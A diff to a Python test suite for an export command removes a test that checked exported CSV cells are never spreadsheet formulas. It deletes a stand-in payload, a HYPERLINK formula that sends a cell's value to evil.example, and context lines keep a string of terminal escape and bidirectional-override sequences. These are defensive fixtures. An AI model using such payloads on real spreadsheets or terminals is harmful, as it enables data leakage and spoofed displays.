@@ -4,8 +4,6 @@ Each is bounded in memory and time, and ends in one line with status 2, or in a 
 half-written, and nothing is sent to a server that the user did not name.
 """
 
-import csv
-import io
 import json
 import os
 import pickle
@@ -242,7 +240,6 @@ def test_other_states_than_those_of_dspy_are_refused(
 
 STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
 HOSTILE = "mill\x1b[2J\x1b]0;owned\x07\u202efdp.exe\u2066\u200f\x9b31m\r[bold red]x[/bold red]\x00"
-FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"mill")'
 
 
 def saved(out: Path, text: str) -> Path:
@@ -272,15 +269,6 @@ def test_what_is_shown_does_not_steer_the_terminal(command: Command, tmp_path: P
         assert ended.status == 0
         assert "owned" in ended.out
         assert not STEERING.search(ended.out + ended.err)
-
-
-def test_no_cell_of_a_table_is_a_formula(command: Command, tmp_path: Path) -> None:
-    out = tmp_path / "out"
-    assert command("export", saved(tmp_path / "run", FORMULA), "--format", "csv", "--out", out).status == 0
-    assert any("HYPERLINK" in file.read_text() for file in out.rglob("*.csv"))
-    for file in out.rglob("*.csv"):
-        for row in csv.reader(io.StringIO(file.read_text("utf-8-sig"))):
-            assert not [cell for cell in row if cell.lstrip()[:1] in ("=", "+", "-", "@")], file.name
 
 
 def test_run_folders_that_lead_elsewhere_or_are_noise_are_refused(refused: Callable[..., str], tmp_path: Path) -> None:
